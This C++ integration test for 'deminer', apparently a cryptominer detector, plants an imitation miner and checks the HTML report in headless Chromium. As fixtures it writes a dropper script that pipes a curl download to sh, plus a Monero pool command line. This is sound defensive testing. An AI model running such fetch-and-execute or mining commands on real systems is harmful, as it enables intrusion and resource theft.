// The HTML report in a real browser: a planted imitation miner (started by a
// fake `node server.js`, with a seed-like command line) and a dropped script,
// `deminer scan --format html`, then Debian's headless Chromium opens the file,
// driven through chromedriver's WebDriver HTTP API with libcurl. The test
// checks that the verdict, the miner's finding, its ancestry tree and the
// timeline are there and visible, that the page loaded nothing, and keeps a
// screenshot in build/test-artifacts/html-report.png.
#include <curl/curl.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

constexpr const char* kChromium = "/usr/bin/chromium";
constexpr const char* kChromedriver = "/usr/bin/chromedriver";
// The W3C WebDriver key of an element reference.
constexpr const char* kElementKey = "element-6066-11e4-a52e-4f735466cecf";

struct HttpReply {
  long status = 0;  // 0: no answer
  std::string body;
};

size_t Collect(char* data, size_t size, size_t n, void* out) {
  static_cast<std::string*>(out)->append(data, size * n);
  return size * n;
}

// One request to chromedriver on loopback; never through a proxy.
HttpReply Http(const std::string& method, const std::string& url, const std::string& body = "") {
  HttpReply reply;
  CURL* curl = curl_easy_init();
  if (curl == nullptr) return reply;
  curl_slist* headers = curl_slist_append(nullptr, "Content-Type: application/json");
  curl_easy_setopt(curl, CURLOPT_URL, url.c_str());
  curl_easy_setopt(curl, CURLOPT_NOPROXY, "*");
  curl_easy_setopt(curl, CURLOPT_CUSTOMREQUEST, method.c_str());
  curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
  curl_easy_setopt(curl, CURLOPT_TIMEOUT, 30L);
  curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, Collect);
  curl_easy_setopt(curl, CURLOPT_WRITEDATA, &reply.body);
  if (method == "POST") {
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body.c_str());
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, static_cast<long>(body.size()));
  }
  if (curl_easy_perform(curl) == CURLE_OK) {
    curl_easy_getinfo(curl, CURLINFO_RESPONSE_CODE, &reply.status);
  }
  curl_slist_free_all(headers);
  curl_easy_cleanup(curl);
  return reply;
}

std::string Base64Decode(const std::string& in) {
  std::string out;
  uint32_t acc = 0;
  int bits = 0;
  for (const char c : in) {
    int v = -1;
    if (c >= 'A' && c <= 'Z') v = c - 'A';
    if (c >= 'a' && c <= 'z') v = c - 'a' + 26;
    if (c >= '0' && c <= '9') v = c - '0' + 52;
    if (c == '+') v = 62;
    if (c == '/') v = 63;
    if (v < 0) continue;  // '=' and line breaks
    acc = (acc << 6) | static_cast<uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out += static_cast<char>((acc >> bits) & 0xff);
    }
  }
  return out;
}

// A headless Chromium session through chromedriver, ended and the driver
// stopped on destruction.
class Browser {
 public:
  Browser() {
    port_ = FreePort();
    driver_ = std::make_unique<Child>(
        kChromedriver, std::vector<std::string>{"chromedriver", fmt::format("--port={}", port_),
                                                "--allowed-ips=127.0.0.1"});
    base_ = fmt::format("http://127.0.0.1:{}", port_);
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    while (Http("GET", base_ + "/status").status != 200) {
      if (std::chrono::steady_clock::now() > deadline) {
        error_ = "chromedriver did not answer on " + base_;
        return;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    const nlohmann::json caps = {
        {"capabilities",
         {{"alwaysMatch",
           {{"browserName", "chrome"},
            {"goog:chromeOptions",
             {{"binary", kChromium},
              {"args",
               {"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--hide-scrollbars", "--window-size=1280,1000",
                "--user-data-dir=" + profile_.path()}}}}}}}}};
    const HttpReply r = Http("POST", base_ + "/session", caps.dump());
    try {
      session_ = nlohmann::json::parse(r.body).at("value").at("sessionId").get<std::string>();
    } catch (const nlohmann::json::exception&) {
      error_ = fmt::format("no session (HTTP {}): {}", r.status, r.body.substr(0, 2000));
    }
  }
  ~Browser() {
    if (!session_.empty()) Http("DELETE", base_ + "/session/" + session_);
  }
  Browser(const Browser&) = delete;
  Browser& operator=(const Browser&) = delete;

  const std::string& error() const { return error_; }

  // The "value" of a WebDriver command; a failed command fails the test.
  nlohmann::json Call(const std::string& method, const std::string& path,
                      const nlohmann::json& body = nlohmann::json::object()) {
    const HttpReply r =
        Http(method, fmt::format("{}/session/{}{}", base_, session_, path), body.dump());
    nlohmann::json j = nlohmann::json::parse(r.body, nullptr, false);
    if (r.status != 200 || j.is_discarded()) {
      ADD_FAILURE() << method << " " << path << ": HTTP " << r.status << " "
                    << r.body.substr(0, 1000);
      return nullptr;
    }
    return j["value"];
  }

  std::vector<std::string> FindAll(const std::string& css) {
    std::vector<std::string> ids;
    const auto v = Call("POST", "/elements", {{"using", "css selector"}, {"value", css}});
    if (!v.is_array()) return ids;
    for (const auto& e : v) ids.push_back(e.value(kElementKey, ""));
    return ids;
  }
  std::string Find(const std::string& css) {
    const auto all = FindAll(css);
    return all.empty() ? std::string() : all[0];
  }
  bool Displayed(const std::string& element) {
    return Call("GET", "/element/" + element + "/displayed") == true;
  }
  std::string Text(const std::string& element) {
    const auto v = Call("GET", "/element/" + element + "/text");
    return v.is_string() ? v.get<std::string>() : std::string();
  }
  nlohmann::json Run(const std::string& script) {
    return Call("POST", "/execute/sync", {{"script", script}, {"args", nlohmann::json::array()}});
  }

 private:
  TempDir profile_;
  uint16_t port_ = 0;
  std::unique_ptr<Child> driver_;
  std::string base_;
  std::string session_;
  std::string error_;
};

std::string ReadPid(const std::string& path) {
  std::ifstream in(path);
  std::string pid;
  in >> pid;
  return pid;
}

TEST(HtmlReportTest, ChromiumShowsVerdictMinerAncestryAndTimeline) {
  if (access(kChromium, X_OK) != 0 || access(kChromedriver, X_OK) != 0) {
    GTEST_SKIP() << "needs Debian's chromium and chromium-driver (" << kChromium << ", "
                 << kChromedriver << "): scripts/deps.sh installs them";
  }
  TempDir dir;
  // A dropper script left ten minutes ago, then the miner it started.
  const std::string dropper = dir / "up.sh";
  std::ofstream(dropper) << "#!/bin/sh\ncurl -fsSL http://127.0.0.1:8080/x.sh | sh\n"
                            "chmod +x /tmp/javae\n";
  chmod(dropper.c_str(), 0755);
  const auto then = fs::file_time_type::clock::now() - std::chrono::minutes(10);
  fs::last_write_time(dropper, then);
  CopyTool("imitation_miner", dir / "javae");
  const std::string miner_ready = dir / "javae.ready";
  const auto node = StartImitation(
      dir, "node", {"node", "server.js"},
      {{"IMITATION_SPAWN",
        fmt::format("{} -o pool.supportxmr.com:443 -u {} -p x", dir / "javae", kSeedWallet)},
       {"IMITATION_CHILD_READY", miner_ready},
       {"IMITATION_LIFETIME_S", "120"}});
  ASSERT_NE(node, nullptr);
  ASSERT_TRUE(WaitForFile(miner_ready));
  const std::string miner_pid = ReadPid(miner_ready);

  const std::string report = dir / "report.html";
  const CommandResult scan =
      RunDeminer({"scan", "--format", "html", "-o", report, "--rules", MachineRulesDir(), "--only",
                  "processes,files", "--fail-on", "none", dir.path()});
  ASSERT_EQ(scan.exit_code, 0) << scan.err;
  const fs::path artifacts = fs::path(DEMINER_BINARY).parent_path() / "test-artifacts";
  fs::create_directories(artifacts);
  fs::copy_file(report, artifacts / "html-report.html", fs::copy_options::overwrite_existing);

  Browser browser;
  ASSERT_EQ(browser.error(), "");
  browser.Call("POST", "/url", {{"url", "file://" + report}});

  const std::string verdict = browser.Find("#verdict");
  ASSERT_FALSE(verdict.empty());
  EXPECT_TRUE(browser.Displayed(verdict));
  EXPECT_NE(browser.Text(verdict).find("COMPROMISED"), std::string::npos)  // text-transform
      << browser.Text(verdict);

  // The miner's finding, with its pid, and its ancestry drawn as a tree down to it.
  bool miner_seen = false;
  for (const std::string& f : browser.FindAll("article.finding[data-check=\"proc.miner\"]")) {
    const std::string text = browser.Text(f);
    if (text.find("pid " + miner_pid + " ") == std::string::npos) continue;
    miner_seen = true;
    EXPECT_TRUE(browser.Displayed(f));
    EXPECT_NE(text.find(kSeedWallet), std::string::npos);
    EXPECT_NE(text.find("node server.js"), std::string::npos) << text;
  }
  EXPECT_TRUE(miner_seen) << "no visible proc.miner finding for pid " << miner_pid;
  const auto trees = browser.FindAll("article.finding[data-check=\"proc.miner\"] .ancestry");
  ASSERT_FALSE(trees.empty());
  EXPECT_TRUE(browser.Displayed(trees[0]));
  const auto flagged = browser.FindAll(".ancestry li.flagged");
  ASSERT_FALSE(flagged.empty());
  EXPECT_TRUE(browser.Displayed(flagged[0]));
  // Drawn as a tree: the flagged process is indented below its parent.
  const auto indent = browser.Run(
      "const f = document.querySelector('article.finding[data-check=\"proc.miner\"] "
      ".ancestry li.flagged > .node');"
      "const top = f.closest('.tree').querySelector('li > .node');"
      "return f.getBoundingClientRect().left - top.getBoundingClientRect().left;");
  EXPECT_GT(indent.is_number() ? indent.get<double>() : 0.0, 40.0) << indent;

  const std::string timeline = browser.Find("#timeline");
  ASSERT_FALSE(timeline.empty());
  EXPECT_TRUE(browser.Displayed(timeline));
  const auto events = browser.FindAll("#timeline li.event");
  EXPECT_GE(events.size(), 2u);
  for (const std::string& e : events) EXPECT_TRUE(browser.Displayed(e));
  EXPECT_NE(browser.Text(timeline).find("process started"), std::string::npos);
  EXPECT_NE(browser.Text(timeline).find("file modified"), std::string::npos);

  // Nothing was loaded: no resource fetched, nothing that could fetch one.
  EXPECT_EQ(browser.Run("return performance.getEntriesByType('resource').length"), 0);
  EXPECT_EQ(browser.Run("return document.querySelectorAll('script, link, img, iframe, object, "
                        "embed, video, audio, source').length"),
            0);

  // The whole page in one screenshot, kept as an artifact.
  const auto height = browser.Run("return document.documentElement.scrollHeight");
  browser.Call("POST", "/window/rect",
               {{"width", 1280},
                {"height", std::clamp(height.is_number() ? height.get<int>() : 2000, 800, 12000)}});
  const auto png = browser.Call("GET", "/screenshot");
  ASSERT_TRUE(png.is_string());
  const std::string bytes = Base64Decode(png.get<std::string>());
  ASSERT_TRUE(bytes.starts_with("\x89PNG")) << bytes.size();
  const fs::path shot = artifacts / "html-report.png";
  std::ofstream(shot, std::ios::binary) << bytes;
  std::cerr << "screenshot: " << fs::absolute(shot).string() << "\n";
}

}  // namespace
}  // namespace deminer::it
